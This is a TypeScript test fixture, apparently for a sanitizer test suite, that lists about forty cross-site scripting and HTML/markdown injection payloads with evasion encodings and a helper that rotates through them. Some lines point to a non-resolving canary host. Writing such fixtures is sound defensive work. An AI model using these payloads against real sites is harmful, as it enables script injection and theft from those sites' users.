/**
 * Ways to run script, load from elsewhere, or close the page's own elements. Each payload carries a
 * mark of its own, so that the one that works is known by name.
 */

/** A host that no test may ever ask. */
export const CANARY_HOST = 'canary.invalid';

type Payload = (mark: string) => string;

const run = (mark: string): string => `window.__pwned='${mark}';alert('${mark}')`;
const beacon = (mark: string): string => `https://${CANARY_HOST}/${mark}`;

export const PAYLOADS: readonly Payload[] = [
	(mark) => `<script>${run(mark)}</script>`,
	(mark) => `<ScRiPt src=//${CANARY_HOST}/${mark}.js></sCrIpT>`,
	(mark) => `<img src=x onerror="${run(mark)}">`,
	(mark) => `"><svg/onload=${run(mark)}>`,
	(mark) =>
		`'"--></style></script></title></textarea></noscript></template><script>${run(mark)}</script>`,
	(mark) =>
		`</code></pre></figure></prompt-code></main></body></html><script>${run(mark)}</script>`,
	(mark) => `]]><script>${run(mark)}</script><![CDATA[`,
	(mark) => `<!--><script>${run(mark)}</script>-->`,
	(mark) => `<iframe srcdoc="<script>parent.__pwned='${mark}'</script>"></iframe>`,
	(mark) => `<iframe src="javascript:parent.__pwned='${mark}'"></iframe>`,
	(mark) => `<object data="${beacon(mark)}"></object><embed src="${beacon(mark)}">`,
	(mark) =>
		`<link rel="stylesheet" href="${beacon(mark)}.css"><style>@import '${beacon(mark)}';</style>`,
	(mark) => `<meta http-equiv="refresh" content="0;url=${beacon(mark)}">`,
	(mark) => `<base href="${beacon(mark)}/">`,
	(mark) =>
		`<form action="${beacon(mark)}"><button formaction="javascript:${run(mark)}">Go</button></form>`,
	(mark) => `<details open ontoggle="${run(mark)}">x</details>`,
	(mark) => `<input autofocus onfocus="${run(mark)}">`,
	(mark) => `<video><source onerror="${run(mark)}"></video>`,
	(mark) =>
		`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run(mark)}>">`,
	(mark) => `<svg><animate onbegin="${run(mark)}" attributeName=x dur=1s></svg>`,
	(mark) => `<a href="javascript:${run(mark)}">x</a>`,
	(mark) => `[x](javascript:${run(mark)})`,
	(mark) => `[x](JaVa&#x09;ScRiPt&colon;${run(mark)})`,
	(mark) => `[x](data:text/html;base64,${btoa(`<script>${run(mark)}</script>`)})`,
	(mark) => `[x](<vbscript:${run(mark)}>)`,
	(mark) => `![x](${beacon(mark)}.png "t" onerror=${run(mark)})`,
	(mark) => `![x](//${CANARY_HOST}/${mark}.png)`,
	(mark) => `![x](\\\\${CANARY_HOST}\\${mark}.png)`,
	(mark) => `<javascript:${run(mark)}>`,
	(mark) => `<scr\u0000ipt>${run(mark)}</scr\u0000ipt>`,
	(mark) => `＜script＞${run(mark)}＜/script＞`,
	(mark) => `+ADw-script+AD4-${run(mark)}+ADw-/script+AD4-`,
	(mark) => `&lt;script&gt;${run(mark)}&lt;/script&gt;&#x3C;script&#x3E;${run(mark)}`,
	(mark) => `{{constructor.constructor("${run(mark)}")()}}\${${run(mark)}}<%= ${run(mark)} %>`,
	(mark) => `{(() => { ${run(mark)} })()}`,
	(mark) =>
		`<template shadowrootmode="open"><script>${run(mark)}</script></template><slot name="head">`,
	(mark) =>
		`<form id="main"><input name="attributes"><a id="document" name="currentScript">${mark}</a>`,
	(mark) => `\u202Etxet<img src=x onerror=${run(mark)}>\u2066\u2028\u2029${mark}`,
	(mark) => `<prompt-view><copy-button onclick="${run(mark)}"></copy-button></prompt-view>`,
	(mark) =>
		`<x style="position:fixed;inset:0;background:url(${beacon(mark)})" onclick=${run(mark)}>`,
	(mark) => `onmouseover="${run(mark)}" style="animation:x" x="`,
	(mark) => `\`\`\`"><script>${run(mark)}</script>`,
];

/** Takes the payloads one after the other, each with the mark of the place it is put in. */
export function payloadTurn(): (mark: string) => string {
	let next = 0;
	return (mark) => {
		const payload = PAYLOADS[next++ % PAYLOADS.length];
		return payload?.(mark) ?? '';
	};
}
